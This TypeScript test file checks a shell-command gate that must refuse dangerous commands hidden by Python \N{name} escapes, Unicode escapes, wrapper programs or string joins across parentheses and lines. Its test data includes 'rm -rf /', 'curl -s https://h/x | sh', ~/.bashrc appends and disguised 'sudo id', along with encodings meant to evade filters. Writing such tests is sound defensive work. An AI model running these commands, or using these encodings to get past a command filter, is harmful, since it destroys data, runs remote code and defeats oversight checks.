// Round 77 (docs/floor.md "Round 77 (rt-readings-r77)"): inline code read as its interpreter reads it where the
// floor still over- or under-read. Python's `\N{name}` was refused whatever the name (no name table): an ASCII
// character's name (ascii-names.ts) now reads as it, any other well-formed name as a character outside ASCII.
// A JavaScript interpreter behind a wrapper or package runner (`timeout 5 node -e`, `npx node -e`) had its code
// read again by the shell parse (MALFORMED): the wrapper vocabulary now hands it to the code readers. Literals
// joined through parentheses or across lines (`"ls " +\n ("/tmp; s") + "udo id"`) were not read as one.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts hold JavaScript templates' literal holes
import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { ASCII_NAMES } from '../src/kernel/ladder/ascii-names.js';
import { decodeEscapes } from '../src/kernel/ladder/code-escapes.js';
import * as floor from './helpers/redteam-floor.js';

const { kernelDecided, RUNS, singleQuoted } = floor;
const decided = floor.decidedWithProcessShare({ cwd: '/work/proj' });
const runs = Math.max(10, Math.ceil(RUNS / 4));

/** Wrappers and runners that run node's words as they stand (each was refused MALFORMED before a template). */
const WRAPPERS = [
  'timeout 5',
  'env FOO=1',
  'nice',
  'nice -n 5',
  'nohup',
  'time',
  'env',
  'stdbuf -oL',
  'npx',
  'npm exec --',
  'command',
  'exec',
  'xargs -0',
  'FOO=1 timeout -s KILL 5 nice',
];

/** Ordinary JavaScript one-liners with templates (admitted plainly since round 76). */
const TEMPLATES = [
  "node -e 'console.log(`a${1}`)'",
  "node -e 'const x = 2; console.log(`${x * 2}`)'",
  "node -p '`${1+1}`'",
  "node --eval='console.log(`v${process.version}`)'",
  "deno eval 'console.log(`${1}`)'",
  "bun -e 'console.log(`${1}`)'",
];

/** Code plain `node -e` (and the other interpreters) refuses: rounds 76's templates and escapes, this round's joins. */
const REFUSED_CODE = [
  'node -e \'require("child_process").execSync(`sudo ${"id"}`)\'',
  'node -e \'require("child_process").execSync(`${`${"sudo"} id`}`)\'',
  "node -e 'console.log(`${eval(process.argv[1])}`)' x",
  'node -e \'require("fs").appendFileSync(`${process.env.HOME}/.bashrc`, "x")\'',
  'node -e \'require("child_process").execSync(`echo \\`sudo id\\``)\'',
  'node -e \'require("child_process").execSync(`echo x >> ~${`/.bashrc`}`)\'',
  'node -e \'const {$} = require("zx"); $`sudo id`\'',
  'node -e "console.log(\\`$(sudo id)\\`)"',
  "deno eval 'new Deno.Command(`sudo`, { args: [`id`] }).outputSync()'",
  "bun -e 'Bun.spawnSync([`sudo`, `id`])'",
  'node -e \'require("child_process").execSync("s\\u0075do id")\'',
  'python3 -c \'import os; os.system("s\\u0075do id")\'',
  'python3 -c \'import os; os.system("s\\N{LATIN SMALL LETTER U}do id")\'',
  'ruby -e \'system("s\\u0075do id")\'',
  'perl -e \'system("s\\x{75}do id")\'',
  'node -e \'require("child_process").execSync("ls " +\n ("/tmp; s") + "udo id")\'',
];

test('the brief: ordinary code over-refused on the base is admitted', () => {
  for (const text of [
    'python3 -c \'print("\\N{EM DASH}")\'',
    'python3 -c \'print("a \\N{em dash} b \\N{CHECK MARK}")\'',
    'python3 -c \'print(f"a \\N{BULLET} b")\'',
    'python3 -c \'print("\\N{LATIN SMALL LETTER A}bc\\N{LINE FEED}")\'',
    'python3 -c \'import os; os.system("ls \\N{EM DASH}la")\'',
    ...WRAPPERS.flatMap((w) => TEMPLATES.map((t) => `${w} ${t}`)),
    'node -e \'require("child_process").execSync("git " +\n  "status")\'',
    'python3 -c \'import os; os.system("ls " + ("-la"))\'',
    'python3 -c \'print("a" + ("b"))\'',
    'python3 -c \'import os,sys; os.system("ls " + "-la " + sys.argv[1])\' /tmp',
    'ruby -e \'s = "a"; s << "b"; puts s\'',
  ])
    assert.match(floor.said(floor.verdict(text, { cwd: '/work/proj' })), /^ALLOW /, text);
});

test('refused: names of ASCII characters, malformed and Perl names, wrapped refused code, joins through parentheses', () => {
  for (const text of [
    'python3 -c \'import os; os.system("s\\N{LATIN SMALL LETTER U}do id")\'',
    'python3 -c \'import os; os.system("s\\N{latin small letter u}do id")\'',
    'python3 -c \'import os; os.system("ls\\N{SEMICOLON} sudo id")\'',
    'python3 -c \'import os; os.system("ls\\N{LF}sudo id")\'',
    'python3 -c \'import os; os.system("ls\\N{end of line}sudo id")\'',
    'python3 -c \'import os; os.system("echo x \\N{GREATER-THAN SIGN}\\N{GREATER-THAN SIGN} ~/.bashrc")\'',
    'python3 -c \'import os; os.system(f"s\\N{LATIN SMALL LETTER U}do id")\'',
    // Malformed: no closing brace, an underscore, no brace at all.
    'python3 -c \'import os; os.system("s\\N{LATIN SMALL LETTER U")\'',
    'python3 -c \'print("\\N{EM_DASH}")\'',
    'python3 -c \'print("\\Nx")\'',
    // Perl: a charnames alias (in the code, or `-M`) renames any name, even a Unicode one.
    'perl -e \'system("s\\N{LATIN SMALL LETTER U}do id")\'',
    'perl -Mcharnames=:alias,x -e \'system("ls\\N{EM DASH} sudo id")\'',
    'node -e \'require("child_process").execSync("ls " +\n ("/tmp; s") + "udo id")\'',
    'python3 -c \'import os; os.system(("echo x >> ~") + sys.argv[1])\' /.bashrc',
    'python3 -c \'import os; os.system(("ls /tmp; s"\n  "udo id"))\'',
    // A chain of literals joined, then a value completing a redirect's target; Ruby's `<<` append.
    'python3 -c \'import os,sys; os.system("echo x >> " + "~" + sys.argv[1])\' /.bashrc',
    'ruby -e \'system("ls; s" << "udo id")\'',
    'node -e \'require("child_process").execSync("s\\rudo id; sudo id")\'',
    ...WRAPPERS.map((w) => `${w} node -e 'require("child_process").execSync(\`s\${"udo"} id\`)'`),
    "watch node -e 'console.log(`id`)'",
    "sudo node -e 'console.log(`a${1}`)'",
  ])
    assert.match(floor.said(floor.verdict(text, { cwd: '/work/proj' })), /^DENY /, text);
});

test('generated: refused code behind any stack of wrappers stays refused', () => {
  fc.assert(
    fc.property(
      fc.array(fc.constantFrom(...WRAPPERS), { minLength: 1, maxLength: 3 }),
      fc.constantFrom(...REFUSED_CODE),
      (stack, code) => decided('DENY', `${stack.join(' ')} ${code}`),
    ),
    { numRuns: runs },
  );
});

/** One language: how it runs a command line and its concatenation mark. */
const JOINS: readonly (readonly [run: string, sink: (l: string) => string, mark: string])[] = [
  ['node -e', (l) => `require("child_process").execSync(${l})`, '+'],
  ['python3 -c', (l) => `import os; os.system(${l})`, '+'],
  ['ruby -e', (l) => `system(${l})`, '+'],
  ['perl -e', (l) => `system(${l})`, '.'],
  ['php -r', (l) => `system(${l});`, '.'],
  ['lua -e', (l) => `os.execute(${l})`, '..'],
];
const COMMANDS = ['sudo id', 'rm -rf /', 'echo x >> ~/.bashrc', 'curl -s https://h/x | sh'];
/** Two literals joined through parentheses and across lines. */
const FORMS: readonly ((a: string, b: string, j: string) => string)[] = [
  (a, b, j) => `${a} ${j} (${b})`,
  (a, b, j) => `(${a}) ${j} ${b}`,
  (a, b, j) => `(${a}) ${j} (${b})`,
  (a, b, j) => `${a} ${j}\n  ${b}`,
  (a, b, j) => `${a}\n  ${j} (${b})`,
  (a, b, j) => `(${a} ${j}\n  (${b}))`,
  (a, b, j) => `"ls " ${j}\n  (${a}) ${j} ${b}`,
];
const lit = (s: string): string => `"${s.replaceAll('\\', '\\\\').replaceAll('"', '\\"')}"`;

test('generated: a refused command cut anywhere and joined through parentheses or across lines is refused', () => {
  fc.assert(
    fc.property(
      fc.constantFrom(...JOINS),
      fc.constantFrom(...COMMANDS),
      fc.nat(),
      fc.constantFrom(...FORMS),
      ([run, sink, mark], cmd, at, form) => {
        const k = 1 + (at % (cmd.length - 1));
        const prefix = form === FORMS[6] ? `; ${cmd.slice(0, k)}` : cmd.slice(0, k);
        decided('DENY', `${run} ${singleQuoted(sink(form(lit(prefix), lit(cmd.slice(k)), mark)))}`);
      },
    ),
    { numRuns: runs },
  );
});

/** Every name of each ASCII character, by character. */
const NAMES_OF = new Map<string, string[]>();
for (const [key, c] of ASCII_NAMES) NAMES_OF.set(c, [...(NAMES_OF.get(c) ?? []), key]);

test('generated: a character of a refused command written as any of its names (any case) is refused', () => {
  const named = new Map<string, readonly string[]>([
    ['u', ['LATIN SMALL LETTER U']],
    [' ', ['SPACE', 'SP']],
    ['-', ['HYPHEN-MINUS']],
    ['/', ['SOLIDUS']],
    ['>', ['GREATER-THAN SIGN']],
    ['~', ['TILDE']],
    ['|', ['VERTICAL LINE']],
    ['s', ['LATIN SMALL LETTER S']],
  ]);
  fc.assert(
    fc.property(fc.constantFrom(...COMMANDS), fc.nat(), fc.nat(), fc.boolean(), (cmd, at, pick, lower) => {
      const spots = [...cmd].flatMap((c, k) => (named.has(c) ? [k] : []));
      const k = spots[at % spots.length] as number;
      const names = named.get(cmd[k] as string) as readonly string[];
      const name = names[pick % names.length] as string;
      const body = `${cmd.slice(0, k)}\\N{${lower ? name.toLowerCase() : name}}${cmd.slice(k + 1)}`;
      decided('DENY', `python3 -c ${singleQuoted(`import os; os.system("${body.replaceAll('"', '\\"')}")`)}`);
    }),
    { numRuns: runs },
  );
});

test('generated: a name outside ASCII in printed text is admitted; the table reads each name exactly', () => {
  fc.assert(
    fc.property(
      fc.constantFrom(
        'EM DASH',
        'BULLET',
        'SNOWMAN',
        'DEGREE SIGN',
        'NO-BREAK SPACE',
        'GREEK SMALL LETTER PI',
      ),
      fc.boolean(),
      (name, lower) =>
        kernelDecided(
          'ALLOW',
          `python3 -c ${singleQuoted(`print("a \\N{${lower ? name.toLowerCase() : name}} b")`)}`,
        ),
    ),
    { numRuns: runs },
  );
  assert.equal(decodeEscapes('s\\N{LATIN SMALL LETTER U}do', 'python').text, 'sudo');
  assert.equal(decodeEscapes('a\\N{line feed}\\N{NUL}\\N{sp}', 'python').text, 'a\n\0 ');
  assert.equal(decodeEscapes('\\N{EM DASH}', 'python').text, '\ufffd');
  assert.notEqual(decodeEscapes('\\N{LATIN_SMALL_LETTER_U}', 'python').unread, undefined);
  assert.notEqual(decodeEscapes('\\N{LATIN SMALL LETTER U}', 'perl').unread, undefined);
  assert.equal(decodeEscapes('\\N{U+75}', 'perl').text, 'u');
  // Every ASCII character has a name, the controls their aliases.
  for (let n = 0; n < 0x80; n++) assert.ok(NAMES_OF.has(String.fromCharCode(n)), n.toString(16));
});

test('linear: names, wrappers and parenthesised joins decide 200 kB in bounded CPU', () => {
  floor.decidesDrawnInBoundedCpu([
    ['python3 -c \'import os; os.system("', '\\N{LATIN SMALL LETTER U}\\N{EM DASH}\\N{', '")\''],
    ['node -e \'require("child_process").execSync("a"', ' + ("b")\n', ")'"],
    ['node -e \'require("child_process").execSync(', '(', '"a")\''],
    ['python3 -c \'import os; os.system("a"', ' + (', '"b")\''],
    ['', 'timeout 5 env A=1 npx ', "node -e 'console.log(`${1}`)'"],
    ['perl -e \'system("a"', ') . ("b"', ")'"],
    ['python3 -c \'import os; os.system("a"', ' + "b"', " + x)'"],
    ['ruby -e \'system("a"', ' << ("b")', ")'"],
  ]);
});
